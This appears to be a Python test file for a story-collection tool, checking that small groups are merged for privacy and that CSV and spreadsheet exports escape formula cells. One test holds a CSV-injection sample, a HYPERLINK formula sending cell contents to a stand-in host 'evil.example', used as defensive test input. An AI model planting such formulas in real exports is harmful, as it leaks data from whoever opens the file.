from pni.privacy.cells import merge_small, small_cell_note


def test_small_groups_merge_into_other_or_vanish() -> None:
    assert merge_small({"a": 9, "b": 2, "c": 3}, 5) == {"a": 9, "other": 5}
    assert merge_small({"a": 9, "b": 2}, 5) == {"a": 9}
    assert merge_small({"a": 9, "b": 2}, 2) == {"a": 9, "b": 2}


def test_teller_counts_decide_not_story_counts() -> None:
    # 12 stories from 3 tellers is still a group of 3 tellers
    assert merge_small({"a": 40, "b": 12}, 5, tellers={"a": 20, "b": 3}) == {"a": 40}
    assert "5 tellers" in small_cell_note(5)


def test_formula_cells_are_neutralised_in_exports() -> None:
    import io

    from pni.cli.output import csv_cell
    from pni.ingest.export import write_stories
    from pni.models import Story
    from pni.privacy.spreadsheet import safe_cell

    evil = '=HYPERLINK("http://evil.example/?x="&A1)'
    for v in (evil, "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        assert safe_cell(v).startswith("'")
        assert csv_cell(v).startswith("'") and csv_cell([v, "b"]).startswith("'")
    assert csv_cell(-3) == "-3" and safe_cell(-3) == -3 and safe_cell("a=b") == "a=b"
    out = io.StringIO()
    s = Story.model_construct(id="S-1", text=evil, title="@t", prompt=None, source_kind="other",
                              source_id=None, collection="c", teller_id=None, date=None,
                              language=None, consent="yes", content_hash="h", provenance=None,
                              answers={"q": "-x"}, teller_answers={})
    write_stories([s], "csv", out)
    text = out.getvalue()
    assert "'=HYPERLINK" in text and ",'@t," in text and "'-x" in text
